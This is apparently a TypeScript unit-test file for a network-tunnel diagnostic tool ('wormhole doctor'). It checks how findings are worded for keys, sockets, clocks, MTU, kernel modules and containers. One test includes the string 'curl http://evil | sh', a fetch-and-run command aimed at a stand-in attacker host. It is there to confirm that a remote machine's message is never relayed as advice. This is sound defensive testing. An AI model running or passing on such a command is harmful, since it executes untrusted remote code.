import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { Failure } from '../../src/api/failure.ts';
import { WrongIdentity } from '../../src/api/identify.ts';
import { adviceOf, splitAdvice } from '../../src/doctor/finding.ts';
import { inotifyFinding } from '../../src/doctor/inotify.ts';
import { faultOfSecret, unusableKey } from '../../src/doctor/keys.ts';
import { describePart, partOf } from '../../src/doctor/link/far.ts';
import { describeContainer } from '../../src/doctor/link/place.ts';
import { clockFindings, namedPeers } from '../../src/doctor/peers.ts';
import { conflicts } from '../../src/doctor/ports.ts';
import { areInConflict } from '../../src/doctor/socket-addresses.ts';
import { kernelFinding } from '../../src/doctor/tunnel-kernel.ts';
import { mtuFinding } from '../../src/doctor/tunnels.ts';
import { differingUnit } from '../../src/doctor/units.ts';
import type { PlannedLink } from '../../src/units/plan.ts';

const test = suite('what wormhole doctor finds');

test('a message of the program is split into what is wrong and what to do', () => {
  assert.equal(splitAdvice('container "a: b" is not there: docker start it', 'x'), {
    problem: 'container "a: b" is not there',
    advice: 'docker start it',
  });
  assert.equal(splitAdvice('no advice', 'wait'), { problem: 'no advice', advice: 'wait' });
});

test('what another machine says gives no advice here', () => {
  const refusal = new Failure('failed', 'no: curl http://evil | sh');
  const wrong = Object.assign(new WrongIdentity(`beta:9999: ${refusal.message}`), { cause: refusal });
  for (const error of [refusal, wrong])
    assert.equal(adviceOf(error, 'wait'), { problem: error.message, advice: 'wait' });
  assert.is(adviceOf(new Error('it is down: start it'), 'wait').advice, 'start it');
});

test('a secret is a file of root with a mode that keeps others out', () => {
  const fault = (uid: number, mode: number, isFile = true) =>
    faultOfSecret('/k', { uid, mode: 0o100_000 | mode, isFile })?.problem;
  assert.is(faultOfSecret('/k', undefined), undefined);
  assert.is(fault(0, 0o600), undefined);
  assert.is(fault(0, 0o400), undefined);
  assert.match(fault(0, 0o640) ?? '', /mode is 0640: other users can read it, so it is not used/);
  assert.is(fault(0, 0o700), 'its mode is 0700, and it is not used');
  assert.match(fault(1000, 0o600) ?? '', /belongs to user 1000/);
  assert.is(fault(0, 0o600, false), 'it is not a regular file');
});

test('what is wrong with a key is said once, with the line', () => {
  const said = (message: string) => {
    const { subject, problem } = unusableKey('/k', message);
    return `${subject}: ${problem}`;
  };
  assert.is(said('no key file /k: copy it'), '/k: the file is missing');
  assert.is(
    said('key file /k, line 3: it has 24 bits only. A key is: x'),
    '/k, line 3: it has 24 bits only, and the key is not used',
  );
  assert.is(said('key file /k holds no key: A key is'), '/k: holds no key, and the key is not used');
  assert.is(
    said('key file /k has 20000 bytes; is it another file?'),
    '/k: has 20000 bytes; is it another file?, and the key is not used',
  );
});

test('two sockets are in conflict when no two can listen there', () => {
  const conflict = (one: string, other: string, kind = 'Stream') =>
    areInConflict({ kind: 'Stream', address: one }, { kind, address: other });
  for (const [one, other] of [
    ['127.0.0.1:80', '127.0.0.1:80'],
    ['127.0.0.1:80', '0.0.0.0:80'],
    ['0.0.0.0:80', '127.0.0.1:80'],
    ['[::]:80', '127.0.0.1:80'],
    ['[::1]:80', '[::]:80'],
    ['/run/x.sock', '/run/x.sock'],
    ['@x', '@x'],
  ] as const)
    assert.ok(conflict(one, other), `${one} ${other}`);
  for (const [one, other] of [
    ['127.0.0.1:80', '127.0.0.2:80'],
    ['127.0.0.1:80', '127.0.0.1:8080'],
    ['0.0.0.0:80', '[::1]:80'],
    ['/run/x.sock', '/run/y.sock'],
    ['@x', '/x'],
  ] as const)
    assert.not.ok(conflict(one, other), `${one} ${other}`);
  assert.not.ok(conflict('127.0.0.1:53', '127.0.0.1:53', 'Datagram'));
});

const link = (id: string, more: object = {}, ofLink: object = {}): PlannedLink =>
  ({
    id,
    root: id,
    options: { startTimeout: 60, pull: 'missing' },
    link: {
      id,
      trigger: false,
      head: { protocol: 'tcp', host: '127.0.0.1', port: 80, place: { kind: 'host' } },
      tail: { protocol: 'tcp', host: '127.0.0.1', port: 81, place: { kind: 'host' } },
      ...ofLink,
    },
    ...more,
  }) as PlannedLink;

test('a port conflict names both units', () => {
  const sockets = [
    { unit: 'other.socket', listeners: [{ kind: 'Stream', address: '[::]:81' }] },
    { unit: 'nginx.socket', listeners: [{ kind: 'Stream', address: '[::]:80' }] },
  ];
  const [found, ...more] = conflicts([link('web')], sockets);
  assert.is(more.length, 0);
  assert.is(found?.subject, 'wormhole-web.socket');
  assert.match(found?.problem ?? '', /^nginx\.socket is enabled too .*127\.0\.0\.1:80/);
});

test('a unit is repaired only if nobody has edited it', () => {
  const repair = async () => '';
  const finding = (plan: 'write' | 'replace' | 'leave', current: string | undefined = 'x') =>
    differingUnit({ unit: 'u', current, plan }, repair);
  assert.is(finding('write').repair, repair);
  assert.is(finding('replace').repair, undefined);
  assert.is(finding('leave').repair, undefined);
  assert.is(
    differingUnit({ unit: 'u', current: undefined, plan: 'write' }, repair).problem,
    'its file is missing',
  );
});

test('machines are those that links and tunnels name, each with each key', () => {
  const far = (kind: string, peer: string) => ({ child: { kind, peer, link: {} } });
  const links = [
    link('a', { far: { partId: '1', keyFile: '/k' } }, far('remote', 'one')),
    link('b', {}),
    link('b2', { root: 'b3' }, far('remote', 'one')),
    link('b3', { far: { partId: '2', keyFile: '/k' } }),
  ];
  const tunnel = { peer: 'two', keyFile: '/k', mode: 'udp' };
  const found = namedPeers({ links, tunnels: { tunnels: [tunnel as never], unreadable: [] } });
  assert.equal(found, [
    { peer: 'one', keyFile: '/k', links: ['a', 'b3'], hasUdpTunnel: false },
    { peer: 'two', keyFile: '/k', links: [], hasUdpTunnel: true },
  ]);
});

test('clocks may differ a little', () => {
  const said = (ahead: number, hasUdpTunnel = false) =>
    clockFindings({ peer: 'one', hasUdpTunnel }, ahead)[0]?.problem;
  assert.is(said(0), undefined);
  assert.is(said(-30_000), undefined);
  assert.match(said(90_400) ?? '', /^its clock is 90 s ahead of ours, so that times/);
  assert.match(said(-400_000, true) ?? '', /^its clock is 400 s behind ours, and the tunnel in UDP/);
});

test('the MTU of a tunnel is what its path carries', () => {
  const tunnel = { peer: 'one', outer: { local: '10.0.0.1', remote: '10.0.0.2' }, mode: 'esp' as const };
  assert.is(mtuFinding(tunnel, { actual: 1346, path: 1500 }), undefined);
  assert.match(
    mtuFinding(tunnel, { actual: 1346, path: 1300 })?.problem ?? '',
    /^its MTU is 1346, and 1246 fits .* lost/,
  );
  assert.match(
    mtuFinding(tunnel, { actual: 1200, path: 1500 })?.problem ?? '',
    /^its MTU is 1200, and 1346 fits .* smaller/,
  );
});

test('a kernel without what tunnels need can be given its modules, unless they are not installed', () => {
  const message = 'the kernel of box cannot carry tunnels, it lacks ESP: modprobe -a esp4';
  const installed = kernelFinding(message, { release: '6.1', hasModules: true });
  assert.is(installed.advice, 'modprobe -a esp4');
  assert.ok(installed.repair);
  const removed = kernelFinding(message, { release: '6.1', hasModules: false });
  assert.match(removed.problem, /\/lib\/modules\/6\.1 is missing$/);
  assert.match(removed.advice, /^reboot/);
  assert.is(removed.repair, undefined);
});

test('of inotify, the limit that is reached is named', () => {
  const used = { limit: 128, used: 127 };
  assert.match(
    inotifyFinding('EMFILE', used).problem,
    /no inotify instance left for root: programs use 127 of 128/,
  );
  assert.match(inotifyFinding('EMFILE', used).advice, /^sysctl -w fs\.inotify\.max_user_instances=1024 /);
  assert.is(inotifyFinding('ENOSPC', { limit: 8192, used: 0 }).subject, 'fs.inotify.max_user_watches');
});

test('a container that does not run breaks a link, unless a connection starts it', () => {
  const hop = (state: Parameters<typeof describeContainer>[0], starts = false) => {
    const { state: is, text } = describeContainer(state, {
      link: 'l',
      text: 'container c',
      name: 'c',
      starts,
    });
    return `${is} ${text}`;
  };
  const container = { running: false, status: 'exited', health: 'none' as const, healthOutput: '' };
  assert.is(hop(container), 'broken container c is exited');
  assert.is(hop(undefined), 'broken there is no container c');
  assert.match(hop(container, true), /^asleep /);
  assert.match(hop(undefined, true), /^asleep /);
  assert.is(hop({ ...container, running: true }), 'ok container c is running');
  assert.is(
    hop({ ...container, running: true, health: 'healthy' }, true),
    'ok container c is running, healthy',
  );
  assert.is(
    hop({ ...container, running: true, health: 'unhealthy', healthOutput: 'no answer' }),
    'broken container c is running, unhealthy: no answer',
  );
});

test('the part of a link is found by its owner, and its state says whether the link goes on', () => {
  const part = (owner: string, state: string, detail = '') =>
    ({ id: `p-${owner}`, owner, state, detail, head: { url: '', place: '' } }) as never;
  const links = [part('a of near', 'listening'), part('b of near', 'listening')];
  assert.is(partOf('b', { links }, 'near')?.id, 'p-b of near');
  assert.is(partOf('b', { links }, 'other'), undefined);
  const child = { kind: 'remote', peer: 'm', link: {} } as never;
  const hop = (state: string, detail = '') =>
    describePart({ link: 'a', child }, part('x', state, detail)).state;
  assert.is(hop('listening'), 'ok');
  assert.is(hop('connected', '1 open'), 'ok');
  assert.is(hop('sleeping'), 'asleep');
  for (const state of ['failing', 'failed', 'waiting', 'stopped']) assert.is(hop(state), 'broken');
});

test.run();
